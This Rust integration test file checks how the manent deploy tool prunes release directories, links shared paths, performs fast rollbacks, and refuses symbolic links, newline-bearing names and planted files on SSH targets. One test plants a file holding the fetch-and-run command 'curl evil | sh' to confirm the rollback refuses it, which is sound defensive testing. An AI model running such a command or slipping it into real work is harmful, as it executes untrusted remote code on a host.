//! Release directories over real SSH (docs/environments.md, "Release directories"): what
//! `keep_releases` leaves, `shared` links, a fast rollback that reuses a release, and the
//! refusals that keep the remote scripts from working through a symbolic link, a name with
//! a newline or a file manent did not write.

mod ssh_site;

use std::path::PathBuf;

use manent_deploy::{submission, views::deploy_views};
use manent_engine::{WorkflowRecord, WorkflowStatus};
use manent_testkit::Db;
use ssh_site::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keep_releases_leaves_the_newest_release_directories_and_the_live_one_on_each_target() {
    let site = site_sharing(2, &["log/", "app.conf"]).await;
    for i in 0..2 {
        // The target's own configuration, written once on it.
        std::fs::create_dir_all(site.root(i).join(".shared")).unwrap();
        std::fs::write(site.root(i).join(".shared/app.conf"), "port: 8080\n").unwrap();
    }
    let worker = site.worker(&executor_id("w1")).await;
    let releases = |i: usize| names_in(&site, i);

    deploy_all(&site, &worker, &["v1", "v2", "v3"]).await;
    for i in 0..2 {
        assert_eq!(
            releases(i),
            [".shared", "current", "v2", "v3"],
            "after v3, {} keeps v3 (live) and v2 (what a rollback returns to); v1 is gone, \
             the hidden shared directory stays",
            target_name(i)
        );
        let v3 = site.root(i).join("v3");
        assert_eq!(
            std::fs::read_to_string(v3.join("app.conf")).unwrap(),
            "port: 8080\n",
            "the release reads the target's shared configuration"
        );
        assert!(
            std::fs::symlink_metadata(v3.join("log"))
                .unwrap()
                .is_symlink()
                && site.root(i).join(".shared/log").is_dir(),
            "the release's log/ is a link to the shared one"
        );
    }
    // v1 again: its directory is made anew and is the live one; of the others, the newest stays.
    let v1 = site.artifact("v1");
    let (record, status) = site.deploy(&worker, &v1, &v1.sha256, false).await;
    assert_eq!(record.status, WorkflowStatus::Success, "{status:#?}");
    for i in 0..2 {
        let name = target_name(i);
        assert_eq!(
            releases(i),
            [".shared", "current", "v1", "v3"],
            "{name} after v1 again"
        );
        assert_eq!(
            current_of(site.root(i)),
            Some(PathBuf::from("v1")),
            "the live link points at v1 on target {i}"
        );
        assert_eq!(
            step(&status, &format!("{name}: prune releases")).status,
            deploy_views::StepState::Success,
            "pruning is a step of its own on {name}"
        );
        let detail = target(&status, &name).detail.clone().unwrap_or_default();
        assert!(
            detail.contains("2 releases kept, removed: v2"),
            "{name}'s outcome says what was removed: {detail}"
        );
    }
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fast_rollback_reactivates_releases_in_place_and_uploads_only_where_one_is_gone() {
    let site = Site::new(Db::Sqlite, FOUR_TARGETS_TWO_REGIONS).await;
    site.write_environment(
        &site.hosts.known_hosts,
        "all",
        "checks:\n  - {name: live, type: command, command: 'test -e app.bin || test -n \"$MANENT_VERSION\"'}\n",
    );
    site.edit_environment("deploy:\n", "deploy:\n  keep_releases: 3\n");
    let worker = site.worker(&executor_id("w1")).await;
    let (v1, v2) = (site.artifact("v1"), site.artifact("v2"));
    // Version 1 everywhere, then version 2 everywhere, in one wave each.
    for artifact in [&v1, &v2] {
        let (record, status) = site
            .deploy(&worker, artifact, &artifact.sha256, false)
            .await;
        assert_eq!(record.status, WorkflowStatus::Success, "{status:#?}");
    }
    // From now on: waves by region with an hour's pause between them.
    site.edit_environment(
        "waves: all, max_parallel: 2}",
        "waves: by_region, max_parallel: 2, pause: 1h}",
    );
    // t4 lost its v1 release.
    std::fs::remove_dir_all(site.root(3).join("v1")).unwrap();

    let (record, status) = fast_rollback(&worker).await;
    assert_eq!(
        record.status,
        WorkflowStatus::Success,
        "the fast rollback ran every target in one wave, without the hour's pause: {status:#?}"
    );
    assert!(
        !status.steps.iter().any(|s| s.name.starts_with("fetch ")),
        "nothing is fetched up front: {:#?}",
        status.steps
    );
    for i in 0..4 {
        let name = target_name(i);
        assert_eq!(
            current_of(site.root(i)),
            Some(PathBuf::from("v1")),
            "{name} runs v1 again"
        );
        assert_eq!(
            step(&status, &format!("{name}: find release v1")).status,
            deploy_views::StepState::Success,
            "{name} was looked at for v1's release"
        );
        let uploaded = status
            .steps
            .iter()
            .any(|s| s.name == format!("{name}: upload app.bin"));
        assert_eq!(
            uploaded,
            i == 3,
            "only t4, whose release was removed, is uploaded to again ({name})"
        );
        assert_eq!(
            step(&status, &format!("{name}: check live")).status,
            deploy_views::StepState::Success,
            "{name} is checked after its reactivation"
        );
    }
    assert_eq!(
        file_sha256(&site.root(3).join("v1/app.bin")).as_deref(),
        Some(v1.sha256.as_str()),
        "t4's release was made again from the verified artifact"
    );
    worker.stop().await;
}

/// Two targets, both in one wave, keeping `keep` releases and sharing `paths` from the
/// hidden `.shared` beside them.
async fn site_sharing(keep: u32, paths: &[&str]) -> Site {
    let site = Site::new(Db::Sqlite, TWO_TARGETS_TWO_REGIONS).await;
    site.write_environment(&site.hosts.known_hosts, "all", "");
    let base = path_str(&site.base);
    site.edit_environment(
        "deploy:\n",
        &format!(
            "deploy:\n  keep_releases: {keep}\n  shared: {{dir: {}, paths: [{}]}}\n",
            q(format!("{base}/{{target}}/.shared")),
            paths.join(", ")
        ),
    );
    site
}

/// Deploys each of `versions` in turn; each succeeds.
async fn deploy_all(site: &Site, worker: &Worker, versions: &[&str]) {
    for version in versions {
        let artifact = site.artifact(version);
        let (record, status) = site
            .deploy(worker, &artifact, &artifact.sha256, false)
            .await;
        assert_eq!(
            record.status,
            WorkflowStatus::Success,
            "{version} deploys: {status:#?}"
        );
    }
}

/// Rolls acme/web in prod back to the newest other successful version, fast, and waits
/// for its end.
async fn fast_rollback(worker: &Worker) -> (WorkflowRecord, deploy_views::DeployStatus) {
    let client = worker.engine.client();
    let (source, request) = submission::rollback_source(&client, "acme/web", "prod", None)
        .await
        .expect("a version is there to roll back to");
    let submitted = submission::resubmit(
        &client,
        &std::sync::Arc::new(worker.config.clone()),
        &source,
        request,
        submission::Resubmit {
            kind: manent_deploy::history::OriginKind::Rollback,
            fast: true,
            force: false,
        },
        &manent_deploy::Submitter::named("test"),
    )
    .await
    .expect("the fast rollback is accepted")
    .submitted;
    let record = client.wait(&submitted.id, WAIT).await.unwrap();
    let status = deploy_views::status(&client, &submitted.id)
        .await
        .expect("read the rollback's status")
        .expect("the rollback exists");
    (record, status)
}

/// The directory names in target `i`'s directory, sorted.
fn names_in(site: &Site, i: usize) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(site.root(i))
        .expect("list a target's directory")
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Makes `path` a directory modified an hour ago: older than any release deployed now.
fn old_directory(path: &std::path::Path) {
    std::fs::create_dir_all(path).expect("make a directory on a target");
    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    std::fs::File::open(path)
        .and_then(|d| d.set_modified(hour_ago))
        .expect("age a directory on a target");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pruning_takes_a_release_named_with_a_newline_as_one_name_and_leaves_the_shared_directory()
{
    let site = site_sharing(2, &["uploads/"]).await;
    for i in 0..2 {
        std::fs::create_dir_all(site.root(i).join(".shared/uploads")).unwrap();
        std::fs::write(site.root(i).join(".shared/uploads/a.png"), "a customer's").unwrap();
        // Read from `ls`, this old release would be the two names `v0` and `.shared`.
        old_directory(&site.root(i).join("v0\n.shared"));
    }
    let refused = submission::parse(
        format!(
            "application: acme/web\nenvironment: prod\nartifacts:\n  - {{name: app.bin, \
             type: binary, version: .shared, url: {}, sha256: {}}}\n",
            q(&site.artifact("v1").url),
            q(&site.artifact("v1").sha256)
        ),
        "deploy.yml".into(),
    )
    .await
    .expect_err("a version that names the hidden shared directory is refused");
    assert!(
        refused.to_string().contains("artifacts[0].version"),
        "the refusal names the field: {refused}"
    );
    let worker = site.worker(&executor_id("w1")).await;
    deploy_all(&site, &worker, &["v1", "v2"]).await;
    for i in 0..2 {
        assert_eq!(
            names_in(&site, i),
            [".shared", "current", "v1", "v2"],
            "{}: the old release named with a newline went as one directory; .shared stayed",
            target_name(i)
        );
        assert_eq!(
            std::fs::read_to_string(site.root(i).join(".shared/uploads/a.png")).ok(),
            Some("a customer's".to_string()),
            "the customer's upload is still there"
        );
    }
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symbolic_link_where_a_release_directory_belongs_fails_the_target_and_nothing_behind_it_changes()
 {
    let site = site_sharing(2, &["config/app.conf"]).await;
    let elsewhere = site.db.path("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("app.conf"), "precious").unwrap();
    for i in 0..2 {
        std::fs::create_dir_all(site.root(i).join(".shared/config")).unwrap();
        std::fs::write(site.root(i).join(".shared/config/app.conf"), "port: 1").unwrap();
    }
    // t1: v1's `config` (above the shared path) is a link; t2: v1 itself is one.
    std::fs::create_dir_all(site.root(0).join("v1")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, site.root(0).join("v1/config")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, site.root(1).join("v1")).unwrap();
    let worker = site.worker(&executor_id("w1")).await;
    let v1 = site.artifact("v1");
    let (record, status) = site.deploy(&worker, &v1, &v1.sha256, false).await;
    assert_eq!(record.status, WorkflowStatus::Error, "{status:#?}");
    for (i, link) in [(0, "v1/config"), (1, "v1")] {
        let name = target_name(i);
        let detail = target(&status, &name).detail.clone().unwrap_or_default();
        let shown = path_str(&site.root(i).join(link)).to_string();
        assert!(
            detail.contains(&shown) && detail.contains("symbolic link"),
            "{name} fails naming the link {shown}: {detail}"
        );
        assert_eq!(current_of(site.root(i)), None, "{name} was never switched");
    }
    assert_eq!(
        std::fs::read_to_string(elsewhere.join("app.conf"))
            .ok()
            .as_deref(),
        Some("precious"),
        "the file behind t1's link was not removed"
    );
    assert!(
        !elsewhere.join("app.bin").exists(),
        "nothing was uploaded through t2's link"
    );
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fast_rollback_refuses_a_release_holding_a_file_manent_did_not_write() {
    let site = site_sharing(3, &["log/"]).await;
    let worker = site.worker(&executor_id("w1")).await;
    deploy_all(&site, &worker, &["v1", "v2"]).await;
    std::fs::write(site.root(0).join("v1/evil.sh"), "curl evil | sh").unwrap();
    let (_, status) = fast_rollback(&worker).await;
    let detail = target(&status, "t1").detail.clone().unwrap_or_default();
    assert!(
        detail.contains("evil.sh") && detail.contains("did not write"),
        "t1 fails naming the planted file: {detail}"
    );
    assert_eq!(
        step(&status, "t1: find release v1").status,
        deploy_views::StepState::Error,
        "the release check is the step that failed"
    );
    assert!(
        !status
            .steps
            .iter()
            .any(|s| s.name.starts_with("t1: upload") || s.name.starts_with("t1: activate")),
        "t1 was neither uploaded to nor reactivated: {:#?}",
        status.steps
    );
    assert_eq!(
        current_of(site.root(0)),
        Some(PathBuf::from("v2")),
        "t1 still runs v2: the planted file never went live"
    );
    assert_eq!(
        step(&status, "t2: find release v1").status,
        deploy_views::StepState::Success,
        "t2's release, as manent wrote it (its artifact and shared link), passes the check"
    );
    worker.stop().await;
}

/// A shared file missing on the targets (`deploy.shared.paths` without a trailing `/`):
/// the dry run finds it on each target, and the deploy fails saying which file on which
/// target, never quoting manent's own script.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_shared_file_is_named_on_each_target_by_the_dry_run_and_the_deploy_without_the_script()
 {
    let site = site_sharing(2, &["log/", ".env"]).await;
    // t2 has its .env; t1 does not.
    std::fs::create_dir_all(site.root(1).join(".shared")).unwrap();
    std::fs::write(site.root(1).join(".shared/.env"), "A=1\n").unwrap();
    let missing = path_str(&site.root(0).join(".shared/.env")).to_string();
    let worker = site.worker(&executor_id("w1")).await;
    let v1 = site.artifact("v1");
    let script_words = ["refuse_link", "mkdir -p", "missing=", "exited with"];
    let no_script = |what: &str, text: &str| {
        for word in script_words {
            assert!(
                !text.contains(word),
                "{what} does not quote manent's script ({word}): {text}"
            );
        }
    };

    let (record, status) = site.deploy(&worker, &v1, &v1.sha256, true).await;
    assert_eq!(
        record.status,
        WorkflowStatus::Error,
        "the dry run fails: a shared file is missing on t1: {status:#?}"
    );
    let detail = target(&status, "t1").detail.clone().unwrap_or_default();
    assert!(
        detail.contains(&format!("shared file {missing} is missing")),
        "t1's plan names the missing file: {detail}"
    );
    no_script("t1's plan", &detail);
    let planned = target(&status, "t2").detail.clone().unwrap_or_default();
    assert!(
        planned.contains("would link 2 shared path(s)"),
        "t2, whose .env is there, plans the link: {planned}"
    );

    let (record, status) = site.deploy(&worker, &v1, &v1.sha256, false).await;
    assert_eq!(record.status, WorkflowStatus::Error, "{status:#?}");
    let error = record.error.clone().unwrap_or_default();
    assert!(
        error.contains(&format!(
            "target t1: link shared: shared file {missing} is missing: create it on the target"
        )),
        "the deploy's error (also the webhooks') says which file on which target, the \
         target named once: {error}"
    );
    no_script("the deploy's error", &error);
    let detail = target(&status, "t1").detail.clone().unwrap_or_default();
    no_script("t1's outcome", &detail);
    assert!(
        !site.root(0).join("v1/log").exists(),
        "nothing was linked on t1 while its shared file is missing"
    );
    worker.stop().await;
}
